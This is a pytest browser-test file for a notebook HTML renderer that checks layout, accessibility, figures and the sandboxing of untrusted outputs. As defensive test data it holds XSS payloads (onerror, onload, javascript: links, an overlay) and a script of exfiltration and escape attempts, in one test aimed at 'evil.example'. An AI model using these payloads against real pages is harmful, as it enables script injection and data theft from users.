"""The page of a notebook as its readers have it: in a browser, from a file or from a web server, without network."""

from __future__ import annotations

import base64
import io
import json
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import altair as alt
import matplotlib.pyplot as plt
import numpy as np
import pandas as pd
import plotly.graph_objects as go
import plotly.io as pio
import pytest
from sklearn.linear_model import LogisticRegression
from sklearn.pipeline import make_pipeline
from sklearn.preprocessing import StandardScaler

from assetbook.execute.html import Fact, page
from tests import browser
from tests.browser import Chromium, Visit
from tests.execute.page.notebooks import code, error, failed, html_of, printed, prose, ran, shown, write

chromium = browser.chromium
SANDBOX = "sandbox allow-scripts allow-popups allow-popups-to-escape-sandbox allow-downloads"
WIDTHS = [400, 1400]
FACTS: dict[str, Fact] = {
    "status": "failure",
    "started": "21 November 2026, 18:23 UTC",
    "duration": "1.3 s",
    "asset": [("delays", "/assets/delays")],
    "upstream": ("features", "../../features/1/notebook.html"),
    "record": ("record.json", "record.json"),
}
# what an output may ask its server for, each told apart by its address
ASKS = """
<img src="/got/img" alt="x"><link rel="stylesheet" href="/got/link"><link rel="prefetch" href="/got/prefetch">
<form id="form" action="/got/form" method="post"></form><script src="/got/script"></script><p id="done">not yet</p>
"""
TRIES = """
<script>
const server = document.baseURI.split("/notebook")[0];
const tries = [
  () => fetch(server + "/got/fetch", { mode: "no-cors" }),
  () => fetch(server + "/got/post", { mode: "no-cors", method: "POST", body: "x" }),
  () => { new Image().src = server + "/got/image"; },
  () => navigator.sendBeacon(server + "/got/beacon", "x"),
  () => { const asked = new XMLHttpRequest(); asked.open("GET", server + "/got/xhr", false); asked.send(); },
  () => new WebSocket(server.replace("http", "ws") + "/got/socket"),
  () => new EventSource(server + "/got/events"),
  () => import(server + "/got/import"),
  () => new Worker(server + "/got/worker"),
  () => document.getElementById("form").submit(),
  () => open(server + "/got/open"),
  () => { top.location = server + "/got/top"; },
  () => { parent.document.title = "taken"; },
  () => { parent.hacked = true; },
  () => { localStorage.setItem("a", "b"); },
  () => { document.cookie = "a=b"; },
  () => parent.postMessage({ open: server + "/got/message", height: 1e9 }, "*"),
  () => parent.postMessage({ open: "javascript:alert(1)" }, "*"),
  () => parent.postMessage(null, "*"),
];
Promise.allSettled(tries.map(async (attempt) => attempt())).then(() => {
  document.getElementById("done").textContent = "tried";
});
</script>
"""
LEAVES = """
<style>p {}</style><p>gone?</p><iframe src="/got/iframe"></iframe>
<script>location = document.baseURI.split("/notebook")[0] + "/got/location";</script>
"""
REFRESHES = '<style>p {}</style><meta http-equiv="refresh" content="0; url=/got/refresh">'
# what stands outside of frames
INJECTED = """<img src=x onerror="hacked = 1"><svg onload="hacked = 1"></svg><script>hacked = 1</script>
<a href="javascript:hacked = 1">a</a><style>main { display: none }</style></section></main></body></html>
<div style="position: fixed; inset: 0">over all</div><form action="/got/form"><button>b</button></form><!-- <textarea>
"""
DRAWN = "<svg xmlns='http://www.w3.org/2000/svg'><script>hacked = 1</script><image href='/got/svg'/></svg>"


def cells() -> list[dict[str, Any]]:
    frame = pd.DataFrame(np.arange(60).reshape(2, 30), columns=[f"a long column {n}" for n in range(30)])
    return [
        prose("# Delays\n\nA *text* with `code`, a [link](https://example.org) and\n\n| a | b |\n|--|--:|\n| 1 | 2 |"),
        ran("import pandas as pd\n\nx = 1", tags=["parameters"]),
        prose("## Tables"),
        ran("frame", html_of(frame._repr_html_()), html_of(frame[["a long column 1"]].style.highlight_max().to_html())),
        prose("#### Text"),
        ran("print(x)", printed("y" * 500 + "\n" + "x\n" * 100), printed("\x1b[38;5;226mcare\x1b[0m\n", "stderr")),
        prose("## Figures"),
        ran("plot", picture("png"), picture("svg"), seconds=70),
        code("1", exception=None, status="skipped"),
        prose("> quoted\n\n1. one\n2. two\n\n```python\nx = 1  # y\n```"),
        failed("def f():\n    return 1 / 0\n\nf()", error("ZeroDivisionError", "by zero", "Cell In[5], line 2\n-> 2")),
        code("never", exception=None, status="pending"),
    ]  # fmt: skip


def picture(form: str) -> dict[str, Any]:
    figure, axes = plt.subplots(figsize=(4, 2))
    axes.plot([1, 3, 2])
    kept = io.BytesIO()
    figure.savefig(kept, format=form, dpi=200)
    plt.close(figure)
    if form == "svg":
        return shown({"image/svg+xml": kept.getvalue().decode()})
    data = base64.b64encode(kept.getvalue()).decode()
    return shown({"image/png": data}, **{"image/png": {"width": 400, "height": 200}})


def drawings() -> list[dict[str, Any]]:
    figure = go.Figure(go.Scatter(y=[1, 3, 2]), layout={"title": "Plotly's", "height": 300})
    model = make_pipeline(StandardScaler(), LogisticRegression())
    by_json = pio.renderers["plotly_mimetype"].to_mimebundle(figure.to_dict())
    return [
        ran("figure", shown(by_json)),
        ran("html", html_of(figure.to_html(include_plotlyjs="cdn", full_html=False))),
        ran("model", html_of(model._repr_html_())),
    ]


def saved(folder: Path, *notebook: dict[str, Any]) -> Path:
    to = folder / "notebook.html"
    to.write_text(page(write(folder / "notebook.ipynb", *notebook), title="Delays", facts=FACTS), "utf-8")
    return to


class Server:
    """Serves one page at ``/notebook``, and writes down all that it is asked for."""

    def __init__(self, text: str, policy: str | None) -> None:
        asked: list[str] = []

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                asked.append(self.path)
                self.send_response(200)
                self.send_header("Content-Type", "text/html; charset=utf-8")
                if policy:
                    self.send_header("Content-Security-Policy", policy)
                self.end_headers()
                self.wfile.write(text.encode() if "/notebook" in self.path else b"")

            def do_POST(self) -> None:
                self.do_GET()

            def log_message(self, *_: object) -> None:
                """Say nothing."""

        self.asked = asked
        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self._thread = threading.Thread(target=self._server.serve_forever)
        self._thread.start()

    @property
    def origin(self) -> str:
        return f"http://127.0.0.1:{self._server.server_port}"

    def close(self) -> None:
        self._server.shutdown()
        self._thread.join()
        self._server.server_close()


@contextmanager
def serving(text: str, policy: str | None = None) -> Iterator[Server]:
    server = Server(text, policy)
    try:
        yield server
    finally:
        server.close()


def frame_of(visit: Visit, number: int) -> Any:
    """Return the document in a frame, once it is there."""
    return visit.page.locator(".frame iframe").nth(number).element_handle().content_frame()


@pytest.mark.parametrize("width", WIDTHS)
@pytest.mark.parametrize("dark", [False, True], ids=["light", "dark"])
def test_nothing_is_in_anybody_s_way(tmp_path: Path, chromium: Chromium, width: int, dark: bool) -> None:
    path = saved(tmp_path, *cells())
    with chromium.visit(path, dark=dark, width=width) as visit:
        assert visit.barriers() == []
        visit.page.get_by_role("button", name="Show all code").click()
        assert visit.barriers() == []
        visit.keep(f"notebook-{width}-{'dark' if dark else 'light'}")
        wide = visit.page.evaluate("document.documentElement.scrollWidth")
        assert wide <= width  # what is wider scrolls inside itself
        assert (visit.complaints, visit.refused) == ([], [])


def test_code_is_unfolded_by_click_and_by_key(tmp_path: Path, chromium: Chromium) -> None:
    with chromium.visit(saved(tmp_path, *cells())) as visit:
        code, page = visit.page.locator("details.code"), visit.page
        button = page.get_by_role("button", name="all code")
        is_open = "codes => codes.map(code => code.open)"
        assert code.evaluate_all(is_open) == [False, False, False, False, False, True, False]
        code.nth(1).locator("summary").click()
        code.nth(2).locator("summary").press("Enter")
        assert code.evaluate_all(is_open) == [False, True, True, False, False, True, False]
        button.press("Enter")
        assert all(code.evaluate_all(is_open))
        assert button.text_content() == "Hide all code"
        button.press("Space")
        assert not any(code.evaluate_all(is_open))
        assert button.text_content() == "Show all code"


def test_what_is_too_wide_or_too_long_scrolls_by_keyboard(tmp_path: Path, chromium: Chromium) -> None:
    with chromium.visit(saved(tmp_path, *cells())) as visit:
        table, text = visit.page.locator("#cell-2 .wide"), visit.page.locator("#cell-3 .stdout")
        table.press("ArrowRight")
        visit.page.wait_for_function("document.querySelector('#cell-2 .wide').scrollLeft > 0")
        assert table.get_attribute("aria-label") == "Table of cell 2: Tables"
        text.press("End")
        visit.page.wait_for_function("document.querySelector('#cell-3 .stdout').scrollTop > 0")
        short = visit.page.locator("#cell-3 .stderr")
        assert short.get_attribute("tabindex") is None


def test_a_failure_is_one_click_away(tmp_path: Path, chromium: Chromium) -> None:
    with chromium.visit(saved(tmp_path, *cells())) as visit:
        visit.page.get_by_role("link", name="Cell 6 failed, line 2").click()
        cell = visit.page.locator("#cell-6")
        assert visit.page.url.endswith("#cell-6")
        assert cell.locator(".hll").text_content() == "    return 1 / 0\n"
        assert cell.locator(".hll").is_visible()
        assert cell.evaluate("cell => cell.getBoundingClientRect().top < innerHeight")


def test_contents_stand_beside_the_text_where_there_is_room(tmp_path: Path, chromium: Chromium) -> None:
    path = saved(tmp_path, *cells())
    for width, beside in ((1400, True), (500, False)):
        with chromium.visit(path, width=width) as visit:
            entry = visit.page.get_by_role("navigation", name="Contents").get_by_role("link", name="Figures")
            assert entry.is_visible() is beside
            if not beside:
                visit.page.get_by_text("Contents", exact=True).press("Enter")
            entry.click()
            assert visit.page.url.endswith("#Figures")


def test_figures_are_sharp(tmp_path: Path, chromium: Chromium) -> None:
    with chromium.visit(saved(tmp_path, *cells()), width=1400) as visit:
        sizes = visit.page.locator("figure img").evaluate_all(
            "images => images.map(i => [i.complete, i.naturalWidth, i.clientWidth, i.clientHeight, i.src.slice(5, 18)])"
        )
        assert sizes[0] == [True, 800, 400, 200, "image/png;bas"]
        assert sizes[1][4] == "image/svg+xml"
        assert sizes[1][2] > 0


@pytest.mark.parametrize("dark", [False, True], ids=["light", "dark"])
def test_figures_draw_themselves_without_network(tmp_path: Path, chromium: Chromium, dark: bool) -> None:
    with chromium.visit(saved(tmp_path, *drawings()), dark=dark, height=2000) as visit:
        for number, height in ((0, 300), (1, 300)):
            frame = frame_of(visit, number)
            frame.wait_for_selector(".main-svg .scatterlayer .point")
            assert frame.evaluate("document.querySelector('.gtitle').textContent") == "Plotly's"
            visit.page.wait_for_function(
                "([n, h]) => document.querySelectorAll('iframe')[n].clientHeight == h", arg=[number, height]
            )
        model = visit.page.locator("iframe").nth(2)
        before = model.evaluate("frame => frame.clientHeight")
        frame_of(visit, 2).get_by_text("LogisticRegression", exact=True).click()  # unfolds its parameters
        visit.page.wait_for_function(
            "before => document.querySelectorAll('iframe')[2].clientHeight > before", arg=before
        )
        assert visit.page.locator("iframe").first.get_attribute("title") == "Figure of cell 1: Plotly's"
        visit.keep(f"notebook-drawings-{'dark' if dark else 'light'}")
        assert visit.barriers() == []
        assert (visit.complaints, visit.refused) == ([], [])


def test_charts_of_altair_draw_themselves_without_network(
    tmp_path: Path, chromium: Chromium, monkeypatch: pytest.MonkeyPatch
) -> None:
    pytest.importorskip("vl_convert", reason="Vega's scripts are in vl-convert-python")
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path))
    data = pd.DataFrame({"a": [1, 2], "b": [3, 4]})
    chart = alt.Chart(data, title="Altair's").mark_bar().encode(x="a:O", y="b:Q")
    bundle = json.loads(chart.to_json())
    notebook = [
        ran("chart", shown(chart._repr_mimebundle_())),
        ran("chart", shown({"application/vnd.vegalite.v5+json": bundle})),
    ]
    with chromium.visit(saved(tmp_path, *notebook)) as visit:
        for number in (0, 1):
            frame_of(visit, number).wait_for_selector("canvas.marks, svg.marks")
        assert (visit.complaints, visit.refused) == ([], [])


def test_many_frames_are_drawn_when_they_come_near(tmp_path: Path, chromium: Chromium) -> None:
    script = "<p style='height: 300px'>{}</p><script>document.body.dataset.drawn = 1</script>"
    notebook = [ran(str(n), html_of(script.format(n))) for n in range(30)]
    with chromium.visit(saved(tmp_path, *notebook)) as visit:
        visit.page.wait_for_function("document.querySelectorAll('iframe').length > 0")
        assert visit.page.locator("iframe").count() < 30
        assert not visit.page.locator("#cell-30 iframe").count()
        visit.page.locator("#cell-30").scroll_into_view_if_needed()
        visit.page.wait_for_selector("#cell-30 iframe")


def test_a_frame_is_as_high_as_what_is_in_it(tmp_path: Path, chromium: Chromium) -> None:
    grows = """<p id=p style="height: 100px; margin: 0">x</p><button onclick="p.style.height = '250px'">more</button>
    <style>button { display: block; height: 20px; border: 0; padding: 0 }</style>"""
    endless = "<p style='height: 90000px'>x</p>"
    with chromium.visit(saved(tmp_path, ran("1", html_of(grows)), ran("2", html_of(endless)))) as visit:
        height = "([n, h]) => document.querySelectorAll('iframe')[n].clientHeight == h"
        visit.page.wait_for_function(height, arg=[0, 120])
        frame_of(visit, 0).get_by_text("more").click()
        visit.page.wait_for_function(height, arg=[0, 270])
        visit.page.wait_for_function(height, arg=[1, 4000])


def test_links_in_frames_open_elsewhere_and_never_here(tmp_path: Path, chromium: Chromium) -> None:
    links = """<style>p {}</style><a href="https://example.org/">out</a> <a href="/graphql">in</a>
    <a href="#x">down</a><p id=x>x</p>"""
    text = saved(tmp_path, ran("1", html_of(links))).read_text()
    with serving(text, SANDBOX) as server, chromium.visit(f"{server.origin}/notebook?path=x") as visit:
        frame = frame_of(visit, 0)
        with visit.page.expect_popup() as popup:
            frame.get_by_text("out").click()
        popup.value.close()
        assert visit.refused == ["https://example.org/"]
        frame.get_by_text("in").click()
        frame.get_by_text("down").click()
        assert frame.evaluate("document.URL") == "about:srcdoc"
        assert len(visit.page.context.pages) == 1
    assert server.asked == ["/notebook?path=x"]


def test_an_output_that_is_a_page_of_its_own_could_ask_its_server(chromium: Chromium) -> None:
    """So that it means something where the next test finds nothing."""
    with (
        serving(f"<!DOCTYPE html>{ASKS}{TRIES}") as server,
        chromium.visit(f"{server.origin}/notebook") as visit,
    ):
        asked = {
            "/got/fetch",
            "/got/post",
            "/got/image",
            "/got/img",
            "/got/link",
            "/got/script",
            "/got/beacon",
        }
        for _ in range(10):  # a page that has left too soon is opened again
            visit.page.wait_for_timeout(1_000)
            if asked <= set(server.asked):
                break
            visit.goto(f"{server.origin}/notebook")
        assert asked <= set(server.asked)


@pytest.mark.parametrize("policy", [None, SANDBOX], ids=["bare", "sandboxed"])
def test_outputs_cannot_act_on_the_server(tmp_path: Path, chromium: Chromium, policy: str | None) -> None:
    code = TRIES.removeprefix("\n<script>").removesuffix("</script>\n")
    notebook = [
        prose(f"## A\n\n{INJECTED}"),
        ran("1", html_of(ASKS + TRIES)),
        ran("2", shown({"application/javascript": f"element.innerHTML = `{ASKS}`;\n{code}"})),
        ran("3", html_of(LEAVES)),
        ran("4", html_of(REFRESHES)),
        ran("5", html_of(INJECTED), printed(INJECTED), shown({"image/svg+xml": DRAWN})),
        prose("## The end"),
    ]
    text = saved(tmp_path, *notebook).read_text()
    address = "/notebook?path=/records/1/notebook.ipynb"
    with serving(text, policy) as server, chromium.visit(server.origin + address) as visit:
        page = visit.page
        for number in (0, 1):
            frame_of(visit, number).wait_for_function(
                "document.getElementById('done')?.textContent == 'tried'"
            )
        for number in (2, 3):
            while not frame_of(visit, number).url.startswith("chrome-error:"):
                page.wait_for_timeout(50)  # it has tried to leave, and has come nowhere
        assert page.url == server.origin + address
        assert page.title() == "Delays"
        assert page.evaluate("window.hacked") is None
        assert page.locator("main h2").all_text_contents() == ["A", "The end"]
        assert page.get_by_role("heading", name="The end").is_visible()
        assert page.evaluate("document.elementFromPoint(9, 9).textContent") != "over all"
        assert all(
            height <= 4000
            for height in page.locator("iframe").evaluate_all("all => all.map(f => f.clientHeight)")
        )
        assert len(page.context.pages) == 1
        assert page.context.cookies() == []
    assert server.asked == [address]
    assert visit.refused == []


def test_a_file_is_safe_too(tmp_path: Path, chromium: Chromium) -> None:
    script = TRIES.replace('document.baseURI.split("/notebook")[0]', '"https://evil.example"')
    output = html_of(f"<form id=form action='https://evil.example'></form><p id=done></p>{script}")
    with chromium.visit(saved(tmp_path, ran("1", output), prose(INJECTED))) as visit:
        frame_of(visit, 0).wait_for_function("document.getElementById('done').textContent == 'tried'")
        assert visit.page.title() == "Delays"
        assert visit.page.evaluate("window.hacked") is None
        assert visit.refused == []


def test_links_go_where_the_page_is_shown(tmp_path: Path, chromium: Chromium) -> None:
    path = saved(tmp_path, *cells())
    found = "links => links.map(link => [link.textContent, link.getAttribute('href')])"
    with chromium.visit(path) as visit:
        visit.page.get_by_text("Code and environment").click()
        assert visit.page.locator("dd a").evaluate_all(found) == [
            ["delays", None],
            ["features", "../../features/1/notebook.html"],
            ["record.json", "record.json"],
        ]
    with serving(path.read_text(), SANDBOX) as server:
        for records in ("/data/records", "data/records"):
            with chromium.visit(
                f"{server.origin}/dagster/notebook?path={records}/model/2/notebook.ipynb"
            ) as visit:
                assert visit.page.locator("dd a").evaluate_all(found) == [
                    ["delays", "/dagster/assets/delays"],
                    ["features", f"?path={records.replace('/', '%2F')}%2Ffeatures%2F1%2Fnotebook.ipynb"],
                    ["record.json", None],
                ]
                assert visit.complaints == []


def test_print_shows_results_whole(tmp_path: Path, chromium: Chromium) -> None:
    with chromium.visit(saved(tmp_path, *drawings(), *cells()), width=1400) as visit:
        frame_of(visit, 0).wait_for_selector(".main-svg")
        visit.page.emulate_media(media="print")
        assert not visit.page.get_by_role("navigation").is_visible()
        assert not visit.page.locator("#cell-1 .code").is_visible()
        assert visit.page.locator("#cell-9 .source").is_visible()
        visit.page.evaluate("dispatchEvent(new Event('beforeprint'))")
        boxes = visit.page.locator("iframe").evaluate_all(
            "all => all.map(one => one.getBoundingClientRect().width)"
        )
        assert all(0 < width <= 660 for width in boxes)
        visit.page.evaluate("dispatchEvent(new Event('afterprint'))")
        assert visit.page.locator("iframe").first.get_attribute("style").count("transform") == 0
        assert visit.page.pdf(format="A4").startswith(b"%PDF")
